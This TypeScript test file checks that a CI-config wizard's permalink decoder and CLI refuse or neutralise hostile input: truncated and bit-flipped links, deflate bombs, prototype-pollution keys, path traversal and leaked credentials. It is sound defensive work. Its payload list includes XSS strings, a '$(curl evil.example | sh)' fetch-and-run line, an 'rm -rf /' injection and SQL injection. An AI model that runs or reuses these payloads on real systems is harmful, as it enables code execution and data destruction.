/**
 * Hostile permalinks and pasted credentials, against the gate that the app and the CLI share (`restoreAnswers`,
 * door `link`), and against the CLI itself. Every malformed or hostile input gives `ok: false` with a message (never an exception, never answers);
 * the only links that decode are the ones a user could have made. Each kind of input is one row of SECURITY.md's
 * table (`table:permalinks`), with its count and outcome as measured here. Generators are seeded: the counts and
 * outcomes are the same on every run.
 */
import { deflateSync, strFromU8, strToU8, unzlibSync, zlibSync } from 'fflate';
import fc from 'fast-check';
import { mkdtempSync, readdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it, vi } from 'vitest';
import { DEFAULT_ANSWERS, defaultAnswers, type Answers } from '../core/answers';
import { diagnose } from '../core/troubleshoot';
import { generate } from '../core/generate';
import { encodeAnswers, PERMALINK_VERSION, SHORT_KEYS } from '../core/permalink';
import { restoreAnswers, restoreErrorMessage, type RestoreErrorCode } from '../core/restore';
import { PRESETS } from '../core/presets';
import { normalize, validateCombination } from '../core/rules';
import { main as cli } from '../cli/generate';
import { answersArb } from '../testing/arbitraries';
import { MORE_SECRET_SAMPLES, SECRET_SAMPLES } from '../testing/secret-samples';
import { count, securityTable, type SecurityRow } from '../testing/security-table';

const rows: SecurityRow[] = [];
const record = (input: string, cases: number, outcome: string) => rows.push({ input, cases, outcome });

const b64url = (bytes: Uint8Array) => Buffer.from(bytes).toString('base64url');
/** A version-1 (legacy, no checksum) link holding `json` (short keys), plain or raw-deflated. */
const plain = (json: string) => `1.j${b64url(strToU8(json))}`;
const deflated = (json: string) => `1.z${b64url(deflateSync(strToU8(json), { level: 9 }))}`;
/** A current (version 2) link holding `json`: zlib, with its Adler-32 checksum. */
const zlib2 = (json: string) => `2.z${b64url(zlibSync(strToU8(json), { level: 9 }))}`;
/** A link of the current version (its short keys: `SHORT_KEYS`). */
const zlibCurrent = (json: string) => `${PERMALINK_VERSION}.z${b64url(zlibSync(strToU8(json), { level: 9 }))}`;
/** The JSON inside a version-2 link. */
const jsonOf = (link: string) => strFromU8(unzlibSync(Buffer.from(link.replace(/^.*?\d\.z/, ''), 'base64url')));

type DecodeResult = { ok: true; answers: Answers } | { ok: false; error: string; code: RestoreErrorCode };

/** A link through the gate of every input (door `link`), with the English message when it is refused. */
function decodeLink(input: string): DecodeResult {
  const r = restoreAnswers({ kind: 'link', raw: input });
  return r.ok ? r : { ok: false, error: restoreErrorMessage(r.error, 'en'), code: r.error.code };
}

function decode(input: string): DecodeResult {
  let r: DecodeResult | undefined;
  expect(() => (r = decodeLink(input))).not.toThrow();
  if (!r) throw new Error('no result');
  return r;
}

/** Refused with the decoder's message, and optionally the expected reason. */
function expectBroken(input: string, pattern?: RegExp): void {
  const r = decode(input);
  expect(r.ok, `accepted: ${input.slice(0, 80)}`).toBe(false);
  if (!r.ok) {
    expect(r.error).toMatch(/^Broken permalink: .+/);
    if (pattern) expect(r.error).toMatch(pattern);
  }
  expect('answers' in r).toBe(false);
}

function expectAllBroken(cases: [string, RegExp?][]): number {
  for (const [input, pattern] of cases) expectBroken(input, pattern);
  return cases.length;
}

const flip = (link: string, pos: number, bit: number) => {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
  const ch = link[pos] ?? 'A';
  const idx = alphabet.indexOf(ch);
  const flipped = idx === -1 ? String.fromCharCode(ch.charCodeAt(0) ^ (1 << bit)) : alphabet[idx ^ (1 << bit)];
  return link.slice(0, pos) + flipped + link.slice(pos + 1);
};

const presetLinks = PRESETS.map((p) => ({ id: p.id, answers: normalize(p.answers), link: encodeAnswers(p.answers) }));

/** Every answer that holds text (free text, and the enumerations, which must refuse anything else). */
const STRING_FIELDS = (Object.keys(DEFAULT_ANSWERS) as (keyof Answers)[]).filter((k) => {
  const v = DEFAULT_ANSWERS[k];
  return typeof v === 'string' || Array.isArray(v);
});
/** The JSON of a link that sets `field` to `value` (in a list for list fields), over a configuration where the
 * field is relevant (a proxy, a mirror, a registry cache, tests, compose, other registries...). */
const BASE: Record<string, unknown> = {
  p: 'job',
  hp: 'http://proxy.example.com:3128',
  mu: 'https://mirror.example.com',
  mp: 'daemon-json',
  bx: true,
  k: 'registry',
  rt: true,
  co: true,
};
function linkSetting(field: keyof Answers, value: string): string {
  const v = Array.isArray(DEFAULT_ANSWERS[field]) ? [value] : value;
  return zlibCurrent(JSON.stringify({ ...BASE, [SHORT_KEYS[field]]: v }));
}

describe('hostile permalinks (SECURITY.md, table:permalinks)', () => {
  it('the base configuration that the field cases start from is valid, with each field at its default', () => {
    for (const field of STRING_FIELDS) {
      const d = DEFAULT_ANSWERS[field];
      // An empty list default gets one valid item of its own kind.
      const item = { buildArgs: 'APP_VERSION=1', buildSecrets: 'NPM_TOKEN' }[field as string] ?? 'linux/amd64';
      const r = decode(linkSetting(field, Array.isArray(d) ? (d[0] ?? item) : String(d)));
      expect(r.ok, `${field}: ${r.ok ? '' : r.error}`).toBe(true);
    }
  });

  it('truncated: every strict prefix of every preset link and of a legacy link is refused', () => {
    let n = 0;
    for (const { link } of presetLinks) {
      expect(decode(link).ok).toBe(true);
      for (let i = 0; i < link.length; i++, n++) expectBroken(link.slice(0, i));
    }
    const legacy = plain(JSON.stringify({ de: 'my runner', x: 'kubernetes' }));
    for (let i = 0; i < legacy.length; i++, n++) expectBroken(legacy.slice(0, i));
    record(
      'Truncated link: every strict prefix of the 40 preset links and of a legacy link',
      n,
      `refused with a message: ${count(n)}`,
    );
  });

  it('bit-flipped: no one-bit change of a current link yields another configuration', () => {
    let refused = 0;
    let same = 0;
    for (const { id, answers, link } of presetLinks) {
      for (let pos = 0; pos < link.length; pos++) {
        for (let bit = 0; bit < 6; bit++) {
          const r = decode(flip(link, pos, bit));
          // The padding bits after the last deflate code carry no data: the same configuration comes back.
          if (r.ok) {
            same++;
            expect(r.answers, `${id}: flip at ${pos} bit ${bit}`).toEqual(answers);
          } else {
            refused++;
            expect(r.error).toMatch(/^Broken permalink: .+/);
          }
        }
      }
    }
    expect(same).toBeLessThan(refused / 20);
    record(
      'Bit-flipped current link: every bit of every character of the 40 preset links',
      refused + same,
      `refused: ${count(refused)}; unused padding bits, same configuration: ${count(same)}; another configuration: 0`,
    );
  });

  it('bit-flipped legacy links (version 1, no checksum): refused or a valid combination, never an exception', () => {
    let refused = 0;
    let accepted = 0;
    const good = encodeAnswers(
      normalize({ ...defaultAnswers(), executor: 'kubernetes', method: 'buildkit-rootless', runnerDescription: 'r' }),
    );
    // Version 1 links hold no versions table (`@t`, version 4 on).
    const legacy = deflated(jsonOf(good).replace(/"@t":\d+,?/, ''));
    const payloadStart = legacy.indexOf('.') + 2;
    fc.assert(
      fc.property(fc.integer({ min: 0, max: legacy.length - 1 }), fc.integer({ min: 0, max: 5 }), (pos, bit) => {
        const r = decode(flip(legacy, pos, bit));
        if (r.ok) {
          accepted++;
          expect(pos).toBeGreaterThanOrEqual(payloadStart);
          expect(validateCombination(r.answers)).toEqual([]);
          expect(normalize(r.answers)).toEqual(r.answers);
        } else {
          refused++;
          expect(r.error).toMatch(/^Broken permalink: .+/);
        }
      }),
      { numRuns: 1000, seed: 5 },
    );
    record(
      'Bit-flipped legacy (version 1) link, random bits',
      refused + accepted,
      `refused: ${count(refused)}; decoded to another valid configuration (version 1 has no checksum): ${count(accepted)}`,
    );
  });

  it('oversized: megabytes of text and a deflate bomb are refused before or while decoding', () => {
    const bomb = deflated(JSON.stringify({ de: 'a'.repeat(2 * 1024 * 1024) }));
    expect(bomb.length).toBeLessThan(8 * 1024);
    const n = expectAllBroken([
      [`1.j${'A'.repeat(5 * 1024 * 1024)}`, /too long/],
      [`https://x.example/#c=1.z${'A'.repeat(3 * 1024 * 1024)}`, /too long/],
      [`2.z${'A'.repeat(70 * 1024)}`, /too long/],
      [zlib2(JSON.stringify({ de: 'a'.repeat(2 * 1024 * 1024) })), /expands to more data/],
      [bomb, /expands to more data/],
      [plain(JSON.stringify({ de: 'a'.repeat(40 * 1024) }))],
    ]);
    record(
      'Oversized link: 3-5 MB of text, 2 MB inflated, a 2 MB deflate bomb',
      n,
      'refused with a message (size checked before decoding, and while inflating)',
    );
  });

  it('wrong version or format', () => {
    const good = presetLinks[0]?.link ?? '';
    const n = expectAllBroken([
      [good.replace(/^4\./, '5.'), /version 5 is not supported/],
      [good.replace(/^4\./, '0.'), /version 0 is not supported/],
      [good.replace(/^4\./, '99999.'), /unknown format/],
      [good.replace(/^4\./, ''), /unknown format/],
      [good.replace(/^4\.z/, '4.x'), /unknown format/],
      [`4.j${b64url(strToU8(jsonOf(good)))}`, /unknown format for version 4/],
      [good.replace(/^4\.z/, '1.z')],
    ]);
    record('Wrong version or format', n, 'refused with a message naming the version');
  });

  it('__proto__, constructor and prototype keys pollute nothing', () => {
    const n = expectAllBroken([
      [plain('{"__proto__":{"pv":false}}'), /unknown field "__proto__"/],
      [deflated('{"__proto__":{"m":"dind"},"de":"x"}'), /unknown field "__proto__"/],
      [zlib2('{"__proto__":{"m":"dind"},"de":"x"}'), /unknown field "__proto__"/],
      [zlib2('{"__proto__":{"polluted":true}}'), /unknown field "__proto__"/],
      [zlib2('{"constructor":{"prototype":{"polluted":true}}}'), /unknown field "constructor"/],
      [plain('{"constructor":{"prototype":{"polluted":true}}}'), /unknown field "constructor"/],
      [plain('{"prototype":1}'), /unknown field/],
      [plain('{"toString":"x"}'), /unknown field/],
      [plain('{"hasOwnProperty":"x"}'), /unknown field/],
      [zlib2('{"tg":{"__proto__":["x"]}}'), /runnerTags/],
      [plain('{"zz":1}'), /unknown field "zz"/],
      [plain('{"runnerDescription":"x"}'), /unknown field/],
    ]);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty('pv');
    expect(Object.prototype).not.toHaveProperty('m');
    record(
      '`__proto__`, `constructor`, `prototype` and unknown keys',
      n,
      'refused as unknown fields; Object.prototype unchanged',
    );
  });

  it('valid encoding of invalid values', () => {
    const urls = [
      'not a url',
      'http://',
      'https://[::1',
      'https://a b',
      'https://user@mirror.example.com',
      'https://m.example.com/#x',
    ];
    const n = expectAllBroken([
      [zlib2('{"x":"nonsense"}'), /executor/],
      [zlib2('not json'), /not JSON/],
      [plain('{"pv":"yes"}'), /allowPrivileged/],
      [plain('{"mt":1}'), /mtu/],
      [plain('{"mt":"1450"}'), /mtu/],
      [plain('{"dv":"latest"}'), /dockerVersion/],
      [plain('{"df":"../etc/passwd"}'), /dockerfile/],
      [plain('{"df":"/abs"}'), /dockerfile/],
      [plain('{"de":"two\\nlines"}'), /runnerDescription/],
      [plain('{"de":"a\\u2028b"}'), /runnerDescription/],
      [plain('{"de":"\\ud800"}'), /runnerDescription/],
      [plain('{"tg":["a,b"]}'), /runnerTags/],
      [plain('{"tg":["$X"]}'), /runnerTags/],
      [plain('{"im":"--privileged x"}'), /image/],
      [plain('{"mu":"https://mirror.example.com/?q=1"}'), /mirrorUrl/],
      [plain('{"mu":"ftp://mirror.example.com"}'), /mirrorUrl/],
      ...urls.map((u): [string, RegExp] => [plain(JSON.stringify({ mu: u })), /mirrorUrl (must be|holds)/]),
      [plain('{"pl":["linux/mips"]}'), /platforms/],
      [plain(JSON.stringify({ de: 'x'.repeat(1001) })), /longer than 1000/],
      [plain('[]'), /configuration object/],
      [plain('null'), /configuration object/],
      [plain('"x"'), /configuration object/],
      [plain('not json'), /not JSON/],
      [plain('{"de":'), /not JSON/],
      [`1.z${b64url(strToU8('not deflate data at all'))}`],
      ['1.j!!!!', /not base64url/],
      ['1.j%E0%A4%A', /URL-encoded/],
      [`1.j${b64url(new Uint8Array([0xff, 0xfe, 0x7b, 0x7d]))}`],
      ['https://x.example/#a=1&b=2', /no configuration/],
      ['', /no configuration/],
      ['   ', /no configuration/],
      ['c=', /no configuration/],
    ]);
    record(
      'Well-encoded link with invalid values, or not JSON / base64 / UTF-8',
      n,
      'refused with a message naming the field',
    );
  });

  it('valid encoding of invalid combinations', () => {
    const n = expectAllBroken([
      [plain('{"o":"windows","m":"dind"}'), /invalid combination/],
      [zlib2('{"o":"windows","m":"dind"}'), /invalid combination/],
      [plain('{"pv":false}'), /invalid combination: method/],
      [plain('{"x":"shell"}'), /invalid combination: method/],
      [plain('{"rk":"gitlab-hosted","m":"socket"}'), /invalid combination/],
      [plain('{"x":"kubernetes","mt":0}'), /invalid combination: mtu/],
      [plain('{"rk":"gitlab-hosted","mt":1500}'), /invalid combination: mtu/],
    ]);
    record('Well-encoded link with an impossible combination', n, 'refused with a message naming the rule');
  });

  it('script and HTML payloads in every string field: refused, or kept as the literal string', () => {
    const payloads = [
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      '"><svg onload=alert(1)>',
      'javascript:alert(1)',
      '</textarea><script>alert(1)</script>',
      '{{constructor.constructor("alert(1)")()}}',
      '${alert(1)}',
      '$(curl evil.example | sh)',
      '`reboot`',
      '"; rm -rf / #',
      "'; DROP TABLE x; --",
      '&lt;b&gt;&amp;',
      '\u202Egnp.exe',
      '%3Cscript%3E',
    ];
    let refused = 0;
    let literal = 0;
    for (const field of STRING_FIELDS) {
      for (const payload of payloads) {
        const r = decode(linkSetting(field, payload));
        if (!r.ok) {
          refused++;
          expect(r.error).toMatch(/^Broken permalink: .+/);
          continue;
        }
        literal++;
        const value = r.answers[field];
        expect(Array.isArray(value) ? value : [value], `${field}`).toContain(payload);
        expect(() => generate(r.answers)).not.toThrow();
      }
    }
    record(
      `Script and HTML payloads (${payloads.length}) in every string field (${STRING_FIELDS.length})`,
      refused + literal,
      `refused by the field's format: ${count(refused)}; accepted as the literal string (rendered as text, quoted in files): ${count(literal)}`,
    );
  });

  it('random answers with random payloads in every free-text field decode to exactly what was encoded', () => {
    let n = 0;
    fc.assert(
      fc.property(answersArb, (input) => {
        n++;
        const a = normalize(input);
        const r = decode(encodeAnswers(a));
        if (!r.ok) throw new Error(r.error);
        expect(r.answers).toEqual(a);
      }),
      { numRuns: 1000, seed: 11 },
    );
    record(
      'Random valid answers with adversarial text in every free-text field',
      n,
      `decoded to exactly the encoded answers: ${count(n)}`,
    );
  });

  it('credentials in every string field are refused, each named as a credential', () => {
    const samples = [...Object.values(SECRET_SAMPLES), ...MORE_SECRET_SAMPLES];
    let named = 0;
    for (const field of STRING_FIELDS) {
      for (const secret of samples) {
        const r = decode(linkSetting(field, secret));
        expect(r.ok, `${field} accepted ${secret}`).toBe(false);
        if (r.ok) continue;
        // The gate looks for secrets before it checks each field's format: every field names the credential.
        expect(r.code, `${field}: ${r.error}`).toBe('secret');
        expect(r.error).toMatch(/looks like a secret|holds credentials/);
        expect(r.error).not.toContain(secret);
        named++;
      }
    }
    expectBroken(linkSetting('httpProxy', MORE_SECRET_SAMPLES[2] ?? ''), /httpProxy holds credentials/);
    record(
      `Credentials (${samples.length} kinds and shapes) in every string field (${STRING_FIELDS.length})`,
      named,
      `refused: ${count(named)}, each named as a credential with the CI/CD variable to use (secrets are looked for before the fields' formats)`,
    );
  });

  it('credentials inside a pasted job log reach neither the diagnosis nor the CLI output', () => {
    const samples = [...Object.values(SECRET_SAMPLES), ...MORE_SECRET_SAMPLES];
    const dir = mkdtempSync(join(tmpdir(), 'wizard-log-'));
    const out: string[] = [];
    const log = vi.spyOn(console, 'log').mockImplementation((m: unknown) => void out.push(String(m)));
    const err = vi.spyOn(console, 'error').mockImplementation((m: unknown) => void out.push(String(m)));
    try {
      for (const secret of samples) {
        const text = [
          '$ docker login -u deploy -p ' + secret + ' registry.example.com',
          `Error response from daemon: Get "https://registry.example.com/v2/": x509: certificate signed by unknown authority (${secret})`,
          `ERROR: Cannot connect to the Docker daemon at tcp://docker:2375. Is the docker daemon running? ${secret}`,
        ].join('\n');
        const found = diagnose(text);
        expect(found.map((d) => d.id)).toEqual(expect.arrayContaining(['private-ca-x509', 'dind-tls-port-mismatch']));
        expect(JSON.stringify(found), secret).not.toContain(secret);
        const file = join(dir, 'job.log');
        writeFileSync(file, text);
        out.length = 0;
        expect(cli(['--diagnose', file])).toBe(0);
        expect(out.join('\n'), secret).not.toContain(secret);
        expect(out.join('\n')).toContain('[secret removed]');
      }
    } finally {
      log.mockRestore();
      err.mockRestore();
    }
    record(
      `Credentials (${samples.length} kinds and shapes) inside the failing lines of a pasted job log`,
      samples.length,
      'recognised; the excerpts shown by the app and printed by `--diagnose` say "[secret removed]" instead',
    );
  });

  it('arbitrary strings never throw and never yield an invalid combination', () => {
    let n = 0;
    let ok = 0;
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: 'binary', maxLength: 200 }),
          fc.string().map((s) => `1.j${s}`),
          fc.string().map((s) => `#c=1.z${s}`),
          fc.string().map((s) => `#c=2.z${s}`),
          fc.uint8Array({ maxLength: 300 }).map((b) => `2.z${b64url(b)}`),
        ),
        (s) => {
          n++;
          const r = decode(s);
          if (r.ok) {
            ok++;
            expect(validateCombination(r.answers)).toEqual([]);
          } else expect(r.error).toMatch(/^Broken permalink: /);
        },
      ),
      { numRuns: 3000, seed: 7 },
    );
    record(
      'Arbitrary strings and bytes as a link',
      n,
      `refused with a message: ${count(n - ok)}; decoded to a valid configuration: ${count(ok)}`,
    );
  });

  it('the CLI exits 1 with one line for every kind of bad link or answers file, and writes nothing', () => {
    const dir = mkdtempSync(join(tmpdir(), 'wizard-hostile-'));
    const file = (name: string, content: string) => {
      const p = join(dir, name);
      writeFileSync(p, content);
      return p;
    };
    const good = presetLinks[0]?.link ?? '';
    const cases: string[][] = [
      ['--permalink', good.slice(0, -3)],
      ['--permalink', flip(good, 10, 2)],
      ['--permalink', good.replace(/^4\./, '5.')],
      ['--permalink', `#c=1.j${'A'.repeat(3 * 1024 * 1024)}`],
      ['--permalink', zlib2('{"__proto__":{"m":"dind"}}')],
      ['--permalink', linkSetting('runnerDescription', SECRET_SAMPLES['gitlab-personal-token'])],
      ['--answers', file('proto.json', '{"__proto__":{"method":"socket"}}')],
      ['--answers', file('secret.json', JSON.stringify({ runnerDescription: SECRET_SAMPLES['aws-access-key'] }))],
      ['--answers', file('auth.json', JSON.stringify({ httpProxy: MORE_SECRET_SAMPLES[2] }))],
      ['--answers', file('big.json', JSON.stringify({ runnerDescription: 'x'.repeat(4 * 1024 * 1024) }))],
      ['--answers', file('broken.json', '{"executor": "docker",')],
      ['--answers', file('combination.json', '{"os":"windows","method":"dind"}')],
    ];
    const out = join(dir, 'out');
    const errors: string[] = [];
    const logs: string[] = [];
    const err = vi.spyOn(console, 'error').mockImplementation((m: unknown) => void errors.push(String(m)));
    const log = vi.spyOn(console, 'log').mockImplementation((m: unknown) => void logs.push(String(m)));
    try {
      for (const args of cases) {
        errors.length = 0;
        expect(cli([...args, '--out', out]), args.join(' ').slice(0, 80)).toBe(1);
        expect(errors).toHaveLength(1);
        expect(errors[0]).toMatch(/^error: [^\n]+$/);
        expect(errors[0]?.length ?? 0).toBeLessThan(400);
        expect(errors[0]).not.toMatch(/glpat-|AKIA|hunter2/);
        if (args[1]?.endsWith('big.json')) expect(errors[0]).toMatch(/too large for an answers file/);
      }
    } finally {
      err.mockRestore();
      log.mockRestore();
    }
    expect(logs).toEqual([]);
    expect(readdirSync(dir)).not.toContain('out');
    record(
      'CLI: bad links and answers files (truncated, flipped, wrong version, 3-4 MB, `__proto__`, credentials, broken JSON, impossible combination)',
      cases.length,
      'exit code 1, one line on stderr without the secret, no file written',
    );
  });
});

afterAll(() => {
  const total = rows.reduce((n, r) => n + r.cases, 0);
  console.log(`[security] hostile permalink and credential cases: ${count(total)} in ${rows.length} kinds`);
  const { documented, produced } = securityTable('permalinks', rows);
  expect(total).toBeGreaterThanOrEqual(10_000);
  expect(documented, 'SECURITY.md table:permalinks (UPDATE_SECURITY=1 npx vitest run src/security rewrites it)').toBe(
    produced,
  );
});
